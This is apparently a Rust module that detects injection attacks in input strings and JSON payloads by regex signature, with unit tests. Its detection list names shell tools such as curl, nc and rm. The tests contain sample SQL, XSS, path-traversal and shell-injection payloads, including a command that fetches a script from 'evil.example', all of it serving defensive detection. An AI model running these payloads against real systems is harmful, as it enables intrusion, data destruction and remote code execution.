use once_cell::sync::Lazy;
use regex::Regex;
use serde::Serialize;
use serde_json::Value;
use std::fmt;

/// Class of injection a signature belongs to
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum AttackKind {
    ScriptInjection,
    EventHandlerInjection,
    ProtocolInjection,
    SqlInjection,
    NoSqlInjection,
    PathTraversal,
    ShellInjection,
}

impl AttackKind {
    pub fn as_str(&self) -> &'static str {
        match self {
            AttackKind::ScriptInjection => "script_injection",
            AttackKind::EventHandlerInjection => "event_handler_injection",
            AttackKind::ProtocolInjection => "protocol_injection",
            AttackKind::SqlInjection => "sql_injection",
            AttackKind::NoSqlInjection => "nosql_injection",
            AttackKind::PathTraversal => "path_traversal",
            AttackKind::ShellInjection => "shell_injection",
        }
    }
}

impl fmt::Display for AttackKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// First signature hit inside a structured payload
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct AttackMatch {
    pub field: String,
    pub kind: AttackKind,
}

static SIGNATURES: Lazy<Vec<(AttackKind, Regex)>> = Lazy::new(|| {
    let table: &[(AttackKind, &str)] = &[
        (AttackKind::ScriptInjection, r"(?i)<\s*/?\s*script\b"),
        (AttackKind::ScriptInjection, r"(?i)<\s*(iframe|object|embed|applet|meta|base|svg)\b"),
        (AttackKind::ScriptInjection, r"(?i)\beval\s*\("),
        // CSS `expression()` only in a declaration position
        (AttackKind::ScriptInjection, r"(?i):\s*expression\s*\("),
        (AttackKind::EventHandlerInjection, r"(?i)\bon[a-z]{3,}\s*="),
        (AttackKind::ProtocolInjection, r"(?i)\b(javascript|vbscript|livescript)\s*:"),
        (AttackKind::ProtocolInjection, r"(?i)\bdata\s*:\s*text/html"),
        (AttackKind::SqlInjection, r"(?i)\bunion\b\s+(all\s+)?\bselect\b"),
        (AttackKind::SqlInjection, r"(?i)\b(drop|truncate|alter)\s+(table|database|schema)\b"),
        (AttackKind::SqlInjection, r"(?i)\binsert\s+into\b|\bdelete\s+from\b"),
        (AttackKind::SqlInjection, r"(?i)\bexec(ute)?\s*(\(|xp_)"),
        (AttackKind::SqlInjection, r"(?i)'\s*(or|and)\s+'?\w+'?\s*=\s*'?\w+"),
        // Comment-out tails after a statement break or glued to a closing quote
        (AttackKind::SqlInjection, r";\s*--|'--|/\*.*\*/"),
        (AttackKind::NoSqlInjection, r"(?i)\$(where|ne|gt|gte|lt|lte|regex|nin|expr|or|and|elemmatch)\b"),
        (AttackKind::PathTraversal, r"\.\./|\.\.\\"),
        (AttackKind::PathTraversal, r"(?i)%2e%2e(%2f|%5c|/|\\)"),
        // Chained command with a flag, path, variable or URL argument (or nothing after it)
        (
            AttackKind::ShellInjection,
            r"(;|\|\|?|&&)\s*(rm|cat|curl|wget|bash|sh|zsh|nc|chmod|chown|powershell|python|perl)(\s+(-|/|~|\$|https?:)|\s*$)",
        ),
        (AttackKind::ShellInjection, r"\$\([^)]*\)|`[^`]*`"),
    ];

    table
        .iter()
        .filter_map(|(kind, pattern)| match Regex::new(pattern) {
            Ok(re) => Some((*kind, re)),
            Err(e) => {
                tracing::error!("invalid attack signature {}: {}", pattern, e);
                None
            }
        })
        .collect()
});

/// Return the first signature class `input` matches
pub fn detect(input: &str) -> Option<AttackKind> {
    SIGNATURES
        .iter()
        .find(|(_, re)| re.is_match(input))
        .map(|(kind, _)| *kind)
}

pub fn is_suspicious(input: &str) -> bool {
    detect(input).is_some()
}

/// Walk a JSON payload (keys and string leaves) and report the first hit.
///
/// `field` is the dotted path to the offending value; array positions are
/// rendered as `[i]`.
pub fn scan_value(value: &Value) -> Option<AttackMatch> {
    scan_at(value, String::new())
}

fn scan_at(value: &Value, path: String) -> Option<AttackMatch> {
    match value {
        Value::String(s) => detect(s).map(|kind| AttackMatch {
            field: if path.is_empty() { "_root".to_string() } else { path },
            kind,
        }),
        Value::Array(items) => items
            .iter()
            .enumerate()
            .find_map(|(i, item)| scan_at(item, format!("{}[{}]", path, i))),
        Value::Object(map) => map.iter().find_map(|(key, item)| {
            let child = if path.is_empty() { key.clone() } else { format!("{}.{}", path, key) };
            if let Some(kind) = detect(key) {
                return Some(AttackMatch { field: child, kind });
            }
            scan_at(item, child)
        }),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn rejects_script_tags() {
        assert_eq!(detect("<script>alert(1)</script>"), Some(AttackKind::ScriptInjection));
        assert_eq!(detect("hello < SCRIPT src=x>"), Some(AttackKind::ScriptInjection));
    }

    #[test]
    fn rejects_sql_drop() {
        assert_eq!(detect("'; DROP TABLE users; --"), Some(AttackKind::SqlInjection));
        assert_eq!(detect("x' OR '1'='1"), Some(AttackKind::SqlInjection));
        assert_eq!(detect("1 UNION SELECT password FROM users"), Some(AttackKind::SqlInjection));
        assert_eq!(detect("admin'--"), Some(AttackKind::SqlInjection));
    }

    #[test]
    fn benign_text_passes() {
        for input in [
            "O'Brien's Diner",
            "Smith & Sons Plumbing",
            "We need a new website by Q3 - budget is $5,000",
            "Call me at (555) 123-4567",
            "https://example.com/about?ref=home",
            "Don't forget the 'launch' meeting",
            "Ontario office",
            "Dog & Cat Vets",
            "Bits | Bash Studio",
            "Our brand expression (logo, colours) needs a refresh",
            "Ask about the 'premium' -- or 'basic' -- plan",
            "Send the 'final' -- not draft -- copy",
        ] {
            assert_eq!(detect(input), None, "false positive on {:?}", input);
        }
    }

    #[test]
    fn rejects_handlers_protocols_and_traversal() {
        assert_eq!(detect("<img src=x onerror=alert(1)>"), Some(AttackKind::EventHandlerInjection));
        assert_eq!(detect("JavaScript:alert(1)"), Some(AttackKind::ProtocolInjection));
        assert_eq!(detect("../../etc/passwd"), Some(AttackKind::PathTraversal));
        assert_eq!(detect("%2e%2e%2fetc"), Some(AttackKind::PathTraversal));
        assert_eq!(detect("{\"$where\": \"1\"}"), Some(AttackKind::NoSqlInjection));
        assert_eq!(detect("name; rm -rf /"), Some(AttackKind::ShellInjection));
        assert_eq!(detect("$(whoami)"), Some(AttackKind::ShellInjection));
        assert_eq!(detect("x && curl https://evil.example/x.sh"), Some(AttackKind::ShellInjection));
        assert_eq!(detect("a | sh"), Some(AttackKind::ShellInjection));
        assert_eq!(detect("width: expression(alert(1))"), Some(AttackKind::ScriptInjection));
    }

    #[test]
    fn scan_reports_nested_field() {
        let payload = json!({
            "name": "Acme",
            "contacts": [{ "note": "fine" }, { "note": "<script>x</script>" }]
        });
        assert_eq!(
            scan_value(&payload),
            Some(AttackMatch { field: "contacts[1].note".into(), kind: AttackKind::ScriptInjection })
        );
        assert_eq!(scan_value(&json!({ "name": "O'Brien's Diner" })), None);
    }

    #[test]
    fn scan_checks_keys() {
        let payload = json!({ "$ne": "x" });
        assert_eq!(scan_value(&payload).map(|m| m.kind), Some(AttackKind::NoSqlInjection));
    }
}
